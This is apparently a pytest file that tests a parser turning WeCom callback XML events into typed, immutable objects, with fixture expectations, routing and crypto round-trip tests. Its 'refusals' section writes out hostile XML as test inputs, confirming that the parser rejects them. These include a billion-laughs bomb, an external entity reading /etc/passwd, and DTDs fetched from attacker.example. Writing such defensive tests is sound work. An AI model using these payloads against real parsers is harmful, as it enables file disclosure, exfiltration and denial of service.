"""WeCom callback events (Doc 92130, 90970): fixture payloads into typed, immutable objects.

Plain pytest: nothing here needs Django. Each fixture under tests/fixtures/wecom/ is one payload as
WeCom sends it; the expected values below are written out by hand from those files.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import pickle
from pathlib import Path
from typing import Any

import pytest
from defusedxml.ElementTree import fromstring

from wecom.crypto import CallbackCrypto, CallbackError, XmlError
from wecom.events import (
    AddExternalContact,
    AddHalfExternalContact,
    ChatCreate,
    ChatDismiss,
    ChatUpdate,
    DelExternalContact,
    DelFollowUser,
    EditExternalContact,
    EventParseError,
    FrozenMap,
    TagCreate,
    TagDelete,
    TagShuffle,
    TagUpdate,
    TransferFail,
    UnknownEvent,
    UserCreate,
    UserDelete,
    UserUpdate,
    event_lane,
    parse_event,
)

REPO_ROOT = Path(__file__).resolve().parents[2]
FIXTURES_DIR = REPO_ROOT / "tests" / "fixtures" / "wecom"
VECTORS_PATH = REPO_ROOT.parent / "shared" / "wecom" / "vectors.json"
VECTORS = json.loads(VECTORS_PATH.read_text(encoding="utf-8"))["vectors"]

CORP = "ww4f2a9c1d7e3b8605"
ALICE_EXT = "wmAJ2GCAAAXtWyujaWJHDDGi0mACAAAA"
BOB_EXT = "wmAJ2GCAAAq7Rk2Xhc8sGmPvB1nwDAAA"
CAROL_EXT = "wmAJ2GCAAAT0c5JbNq3yEuWfLhZ8aAAA"
CHAT = "wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA"
V1, V2, V3 = (
    "9c3f97c2ada667dfb5f6d03308d963e1",
    "71217227bbd112ecfe3a49c482195cb4",
    "0e5b3c7f1d9a24c68b2f0a13e7d45c99",
)


def common(create_time: int, event: str | None, change_type: str | None, **extra: Any) -> dict[str, Any]:
    return {
        "to_user_name": CORP,
        "from_user_name": "sys",
        "create_time": create_time,
        "msg_type": "event",
        "event": event,
        "change_type": change_type,
        **extra,
    }


def chat_update(create_time: int, detail: str, **extra: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "chat_id": CHAT,
        "update_detail": detail,
        "join_scene": None,
        "quit_scene": None,
        "mem_change_cnt": None,
        "mem_change_list": (),
        "last_mem_ver": None,
        "cur_mem_ver": None,
    }
    return common(create_time, "change_external_chat", "update", **{**fields, **extra})


ECC = "change_external_contact"
# fixture file stem -> (class, every typed field's expected value)
EXPECTED: dict[str, tuple[type, dict[str, Any]]] = {
    "change_external_contact.add_external_contact": (
        AddExternalContact,
        common(
            1716776532,
            ECC,
            "add_external_contact",
            user_id="zhangsan",
            external_user_id=ALICE_EXT,
            state="douyin_live_0526",
            welcome_code="ZRvQ8mTb3kFp1xWc7yHn2dLs9aUe4gJo6iKr0tBq5Mz",
        ),
    ),
    "change_external_contact.add_external_contact.no_welcome_code": (
        AddExternalContact,
        common(
            1716776918,
            ECC,
            "add_external_contact",
            user_id="lisi",
            external_user_id=BOB_EXT,
            state="store_xuhui_qr",
            welcome_code=None,
        ),
    ),
    "change_external_contact.edit_external_contact": (
        EditExternalContact,
        common(1716777020, ECC, "edit_external_contact", user_id="zhangsan", external_user_id=ALICE_EXT),
    ),
    "change_external_contact.add_half_external_contact": (
        AddHalfExternalContact,
        common(
            1716777105,
            ECC,
            "add_half_external_contact",
            user_id="wangwu",
            external_user_id=CAROL_EXT,
            state="上海徐汇店_海报",
            welcome_code="Hc4Nn0Yp9Lw2Tq7Ke5Ga1Vb8Ds3Fm6Jx0Ru4Zi2Oy7P",
        ),
    ),
    "change_external_contact.del_external_contact": (
        DelExternalContact,
        common(
            1716780311,
            ECC,
            "del_external_contact",
            user_id="zhangsan",
            external_user_id=ALICE_EXT,
            source="DELETE_BY_TRANSFER",
        ),
    ),
    "change_external_contact.del_follow_user": (
        DelFollowUser,
        common(1716780590, ECC, "del_follow_user", user_id="lisi", external_user_id=BOB_EXT),
    ),
    "change_external_contact.transfer_fail": (
        TransferFail,
        common(
            1716866711,
            ECC,
            "transfer_fail",
            user_id="wangwu",
            external_user_id=CAROL_EXT,
            fail_reason="customer_refused",
        ),
    ),
    "change_external_chat.create": (
        ChatCreate,
        common(1716781200, "change_external_chat", "create", chat_id=CHAT),
    ),
    "change_external_chat.update.add_member": (
        ChatUpdate,
        chat_update(
            1716781466,
            "add_member",
            join_scene=3,
            quit_scene=0,
            mem_change_cnt=2,
            mem_change_list=(ALICE_EXT, BOB_EXT),
            last_mem_ver=V1,
            cur_mem_ver=V2,
        ),
    ),
    "change_external_chat.update.del_member": (
        ChatUpdate,
        chat_update(
            1716782004,
            "del_member",
            join_scene=0,
            quit_scene=1,
            mem_change_cnt=1,
            mem_change_list=(BOB_EXT,),
            last_mem_ver=V2,
            cur_mem_ver=V3,
        ),
    ),
    "change_external_chat.update.change_owner": (
        ChatUpdate,
        chat_update(
            1716868800,
            "change_owner",
            join_scene=0,
            quit_scene=0,
            mem_change_cnt=0,
            last_mem_ver=V3,
            cur_mem_ver=V3,
        ),
    ),
    "change_external_chat.update.change_name": (ChatUpdate, chat_update(1716869012, "change_name")),
    "change_external_chat.update.change_notice": (
        ChatUpdate,
        chat_update(
            1716869333,
            "change_notice",
            join_scene=0,
            quit_scene=0,
            mem_change_cnt=0,
            last_mem_ver=V3,
            cur_mem_ver=V3,
        ),
    ),
    "change_external_chat.dismiss": (
        ChatDismiss,
        common(1716955200, "change_external_chat", "dismiss", chat_id=CHAT),
    ),
    "change_external_tag.create": (
        TagCreate,
        common(
            1716790000,
            "change_external_tag",
            "create",
            id="etJ2GCAAAAtWyujaWJHDDGi0mACHAAA",
            tag_type="tag",
            strategy_id=None,
        ),
    ),
    "change_external_tag.update": (
        TagUpdate,
        common(
            1716790123,
            "change_external_tag",
            "update",
            id="etJ2GCAAAAg5XpLhRzQvb7WkeN3mAAAA",
            tag_type="tag_group",
            strategy_id="2",
        ),
    ),
    "change_external_tag.delete": (
        TagDelete,
        common(
            1716790456,
            "change_external_tag",
            "delete",
            id="etJ2GCAAAAtWyujaWJHDDGi0mACHAAA",
            tag_type="tag",
            strategy_id=None,
        ),
    ),
    "change_external_tag.shuffle": (
        TagShuffle,
        common(
            1716790789,
            "change_external_tag",
            "shuffle",
            id="etJ2GCAAAAg5XpLhRzQvb7WkeN3mAAAA",
            strategy_id="2",
        ),
    ),
    "change_contact.create_user": (
        UserCreate,
        common(1716700000, "change_contact", "create_user", user_id="zhaoliu"),
    ),
    "change_contact.update_user": (
        UserUpdate,
        common(1716703600, "change_contact", "update_user", user_id="zhaoliu", new_user_id="zhaoliu01"),
    ),
    "change_contact.delete_user": (
        UserDelete,
        common(1716900000, "change_contact", "delete_user", user_id="zhaoliu01"),
    ),
    "unknown_event": (
        UnknownEvent,
        common(1716791234, "template_card_event", None, from_user_name="zhangsan"),
    ),
    "text_message": (
        UnknownEvent,
        common(1716791500, None, None, from_user_name="zhangsan", msg_type="text"),
    ),
}


def fixture_text(stem: str) -> str:
    return (FIXTURES_DIR / f"{stem}.xml").read_text(encoding="utf-8")


def test_every_fixture_file_has_expectations() -> None:
    assert {p.name.removesuffix(".xml") for p in FIXTURES_DIR.glob("*.xml")} == set(EXPECTED)


@pytest.mark.parametrize("stem", sorted(EXPECTED))
def test_fixture_parses_into_its_type_with_every_field(stem: str) -> None:
    cls, expected = EXPECTED[stem]
    event = parse_event(fixture_text(stem))
    assert type(event) is cls
    typed = {f.name for f in dataclasses.fields(event)} - {"raw"}
    assert typed == set(expected), "the expectation must name every typed field"
    assert {name: getattr(event, name) for name in typed} == expected
    if cls is not UnknownEvent:
        # The routing key is the Event and ChangeType as received.
        assert event.kind == f"{expected['event']}.{expected['change_type']}"
        assert stem.startswith(event.kind)


@pytest.mark.parametrize("stem", sorted(EXPECTED))
def test_raw_keeps_every_top_level_element(stem: str) -> None:
    text = fixture_text(stem)
    event = parse_event(text.encode("utf-8"))
    root = fromstring(text)
    assert list(event.raw) == [child.tag for child in root]
    for child in root:
        if len(child) == 0:
            assert event.raw[child.tag] == (child.text or "")
        else:
            assert isinstance(event.raw[child.tag], FrozenMap)


def test_unknown_event_keeps_nested_and_repeated_elements() -> None:
    event = parse_event(fixture_text("unknown_event"))
    assert isinstance(event, UnknownEvent)
    assert event.kind == "unknown"
    assert event.raw == {
        "ToUserName": CORP,
        "FromUserName": "zhangsan",
        "CreateTime": "1716791234",
        "MsgType": "event",
        "Event": "template_card_event",
        "EventKey": "survey_submit",
        "TaskId": "task_20240527_0001",
        "CardType": "vote_interaction",
        "ResponseCode": "gxKF1bPgXk2yRZ7sQm4cTnHa8vWdLj0u",
        "AgentID": "1000002",
        "SelectedItems": {
            "SelectedItem": (
                {"QuestionKey": "最想参加的活动", "OptionIds": {"OptionId": ("live", "offline")}},
                {"QuestionKey": "联系时段", "OptionIds": {"OptionId": "evening"}},
            )
        },
    }


def test_contact_event_keeps_the_fields_it_does_not_type() -> None:
    event = parse_event(fixture_text("change_contact.create_user"))
    assert event.raw["Name"] == "赵六"
    assert event.raw["Position"] == "客户成功经理"
    assert event.raw["Department"] == "1,2,3"
    assert event.raw["ExtAttr"] == {
        "Item": (
            {"Name": "爱好", "Type": "0", "Text": {"Value": "旅游"}},
            {
                "Name": "门店",
                "Type": "1",
                "Web": {"Title": "徐汇旗舰店", "Url": "https://work.weixin.qq.com"},
            },
        )
    }
    update = parse_event(fixture_text("change_contact.update_user"))
    assert (update.raw["Name"], update.raw["MainDepartment"]) == ("赵六（华东区）", "4")


def test_text_message_keeps_its_content() -> None:
    event = parse_event(fixture_text("text_message"))
    assert isinstance(event, UnknownEvent)
    assert event.raw["Content"] == "你好，请问618活动的优惠券怎么领？"
    assert event.raw["MsgId"] == "7373620495120893952"


@pytest.mark.parametrize("vector", VECTORS, ids=[v["name"] for v in VECTORS])
def test_published_vector_plaintexts_parse(vector: dict) -> None:
    event = parse_event(vector["message"]["plaintext"])
    assert isinstance(event, UnknownEvent)
    assert (event.to_user_name, event.msg_type) == (vector["corp_id"], "text")
    assert event.create_time == int(vector["message"]["timestamp"])


def test_attributes_and_mixed_text_are_kept() -> None:
    event = parse_event(
        "<xml><ToUserName>ww1</ToUserName><CreateTime>1</CreateTime><MsgType>event</MsgType>"
        '<Event>future_event</Event><Card lang="zh">卡片</Card><Box kind="a">note<Item>1</Item></Box></xml>'
    )
    assert event.raw["Card"] == {"@lang": "zh", "#text": "卡片"}
    assert event.raw["Box"] == {"@kind": "a", "#text": "note", "Item": "1"}


# -- routing ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stem", "lane"),
    [
        ("change_external_contact.add_external_contact", "realtime"),
        ("change_external_contact.add_half_external_contact", "realtime"),
        ("change_external_contact.add_external_contact.no_welcome_code", "events"),
        ("change_external_contact.del_follow_user", "events"),
        ("change_external_chat.update.add_member", "events"),
        ("change_contact.create_user", "events"),
        ("unknown_event", "events"),
        ("text_message", "events"),
    ],
)
def test_event_lane(stem: str, lane: str) -> None:
    assert event_lane(parse_event(fixture_text(stem))) == lane


def test_empty_welcome_code_is_absent_and_goes_to_the_events_lane() -> None:
    text = fixture_text("change_external_contact.add_external_contact")
    text = text.replace("ZRvQ8mTb3kFp1xWc7yHn2dLs9aUe4gJo6iKr0tBq5Mz", "").replace("douyin_live_0526", "")
    event = parse_event(text)
    assert isinstance(event, AddExternalContact)
    assert (event.welcome_code, event.state) == (None, None)
    assert event_lane(event) == "events"


def test_unknown_update_detail_is_kept_as_a_string() -> None:
    text = fixture_text("change_external_chat.update.change_name").replace("change_name", "change_admin")
    event = parse_event(text)
    assert isinstance(event, ChatUpdate)
    assert event.update_detail == "change_admin"


def test_unknown_change_type_of_a_known_event_is_unknown() -> None:
    text = fixture_text("change_external_contact.edit_external_contact").replace(
        "edit_external_contact", "msg_audit_approved"
    )
    event = parse_event(text)
    assert type(event) is UnknownEvent
    assert (event.event, event.change_type) == (ECC, "msg_audit_approved")
    assert event.raw["UserID"] == "zhangsan"


def test_only_msg_type_event_is_dispatched_to_typed_events() -> None:
    text = fixture_text("change_external_contact.del_follow_user").replace(
        "<MsgType><![CDATA[event]]></MsgType>", "<MsgType><![CDATA[text]]></MsgType>"
    )
    event = parse_event(text)
    assert type(event) is UnknownEvent
    assert event.msg_type == "text"


def test_event_without_from_user_name() -> None:
    # Reference: Doc 94670 — the WeChat customer-service callback has no FromUserName.
    event = parse_event(
        "<xml><ToUserName><![CDATA[ww4f2a9c1d7e3b8605]]></ToUserName><CreateTime>1716791600</CreateTime>"
        "<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[kf_msg_or_event]]></Event>"
        "<Token><![CDATA[ENCApHxnGDNAVNY4AaSJKj4Tb5mwsEMzxhFmHVGcra996NR]]></Token>"
        "<OpenKfId><![CDATA[wkAJ2GCAAAZSfhHCt7IFSvLKtMPxyJTw]]></OpenKfId></xml>"
    )
    assert type(event) is UnknownEvent
    assert event.from_user_name is None
    assert event.raw["OpenKfId"] == "wkAJ2GCAAAZSfhHCt7IFSvLKtMPxyJTw"


def test_callback_round_trip_through_crypto() -> None:
    # What the inbox does: decrypt the POST, store the plaintext, parse it later.
    crypto = CallbackCrypto("QDG6eK", "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C", CORP)
    text = fixture_text("change_external_contact.add_half_external_contact")
    query, body = crypto.build_callback(text, agent_id=1000002)
    assert parse_event(crypto.decrypt(body=body, **query)) == parse_event(text)


# -- immutability -----------------------------------------------------------------------------------


def test_events_are_immutable_hashable_and_picklable() -> None:
    event = parse_event(fixture_text("change_external_chat.update.add_member"))
    assert isinstance(event, ChatUpdate)
    with pytest.raises(dataclasses.FrozenInstanceError):
        event.chat_id = "other"  # type: ignore[misc]
    with pytest.raises(TypeError):
        event.raw["ChatId"] = "other"  # type: ignore[index]
    assert not hasattr(event, "__dict__")
    again = parse_event(fixture_text("change_external_chat.update.add_member"))
    assert again == event
    assert hash(again) == hash(event)
    assert pickle.loads(pickle.dumps(event)) == event  # noqa: S301 (our own object, round trip)
    assert copy.deepcopy(event) == event
    assert "ExtAttr" not in repr(parse_event(fixture_text("change_contact.create_user")))


# -- refusals ---------------------------------------------------------------------------------------

BODY = (
    "<xml><ToUserName>{to}</ToUserName><FromUserName>sys</FromUserName><CreateTime>1716776532</CreateTime>"
    "<MsgType>event</MsgType><Event>change_external_contact</Event><ChangeType>add_external_contact</ChangeType>"
    "<UserID>zhangsan</UserID><ExternalUserID>{ext}</ExternalUserID></xml>"
)
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        ("<!DOCTYPE xml>" + BODY.format(to=CORP, ext=ALICE_EXT), "dtd"),
        (
            '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY l0 "lol">'
            + LAUGHS
            + "]>"
            + BODY.format(to="&l9;", ext="x"),
            "dtd",
        ),
        (
            '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + BODY.format(to=CORP, ext="&xxe;"),
            "dtd",
        ),
        (
            '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
            + BODY.format(to=CORP, ext=ALICE_EXT),
            "dtd",
        ),
        (
            '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">' + BODY.format(to=CORP, ext=ALICE_EXT),
            "dtd",
        ),
        (
            '<!DOCTYPE xml [<!ENTITY big "' + "A" * 10_000 + '">]>' + BODY.format(to="&big;" * 100, ext="x"),
            "dtd",
        ),
        (BODY.format(to=CORP, ext="&xxe;"), "syntax"),
        (BODY.format(to=CORP, ext=ALICE_EXT)[:-3], "syntax"),
        ("", "syntax"),
        ("<xml/>", "empty"),
        ("<xml>" + "<a>" * 40 + "x" + "</a>" * 40 + "</xml>", "too_deep"),
        ("<xml>" + "<a>" * 100_000 + "</a>" * 100_000 + "</xml>", "too_deep"),
    ],
    ids=[
        "dtd",
        "billion-laughs",
        "external-entity",
        "parameter-entity",
        "external-dtd",
        "quadratic-blowup",
        "undefined-entity",
        "truncated",
        "empty-document",
        "no-fields",
        "deep-nesting",
        "very-deep-nesting",
    ],
)
def test_unsafe_or_malformed_xml_is_refused(xml: str, reason: str) -> None:
    with pytest.raises(EventParseError) as info:
        parse_event(xml)
    assert info.value.reason == reason
    assert isinstance(info.value, XmlError)
    assert isinstance(info.value, CallbackError)
    assert info.value.code == -40002


@pytest.mark.parametrize(
    ("stem", "element", "reason"),
    [
        ("change_external_contact.add_external_contact", "UserID", "missing_field"),
        ("change_external_contact.add_half_external_contact", "ExternalUserID", "missing_field"),
        ("change_external_contact.transfer_fail", "FailReason", "missing_field"),
        ("change_external_chat.create", "ChatId", "missing_field"),
        ("change_external_chat.update.add_member", "UpdateDetail", "missing_field"),
        ("change_external_tag.create", "Id", "missing_field"),
        ("change_external_tag.update", "TagType", "missing_field"),
        ("change_contact.delete_user", "UserID", "missing_field"),
        ("text_message", "CreateTime", "missing_field"),
        ("unknown_event", "ToUserName", "missing_field"),
        ("unknown_event", "MsgType", "missing_field"),
    ],
)
def test_missing_required_field_is_refused(stem: str, element: str, reason: str) -> None:
    root = fromstring(fixture_text(stem))
    kept = "".join(
        f"<{child.tag}><![CDATA[{child.text}]]></{child.tag}>"
        for child in root
        if child.tag != element and len(child) == 0
    )
    with pytest.raises(EventParseError) as info:
        parse_event(f"<xml>{kept}</xml>")
    assert info.value.reason == reason
    assert f"<{element}>" in str(info.value)


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        ("<CreateTime>1716781466</CreateTime>", "<CreateTime>yesterday</CreateTime>", "bad_int"),
        ("<CreateTime>1716781466</CreateTime>", "<CreateTime>1_716</CreateTime>", "bad_int"),
        ("<JoinScene>3</JoinScene>", "<JoinScene>3.5</JoinScene>", "bad_int"),
        ("<QuitScene>0</QuitScene>", "<QuitScene>０</QuitScene>", "bad_int"),
        ("<UpdateDetail>", "<UpdateDetail>add_member</UpdateDetail><UpdateDetail>", "bad_field"),
        (f"<ChatId><![CDATA[{CHAT}]]></ChatId>", "<ChatId><Nested>x</Nested></ChatId>", "bad_field"),
        ("<Item><![CDATA[", "<Item><Nested>x</Nested></Item><Item><![CDATA[", "bad_field"),
        (
            f"<MemChangeList><Item><![CDATA[{ALICE_EXT}]]></Item><Item><![CDATA[{BOB_EXT}]]></Item></MemChangeList>",
            f"<MemChangeList>{ALICE_EXT},{BOB_EXT}</MemChangeList>",
            "bad_field",
        ),
    ],
)
def test_invalid_field_values_are_refused(old: str, new: str, reason: str) -> None:
    text = fixture_text("change_external_chat.update.add_member")
    assert old in text
    with pytest.raises(EventParseError) as info:
        parse_event(text.replace(old, new, 1))
    assert info.value.reason == reason
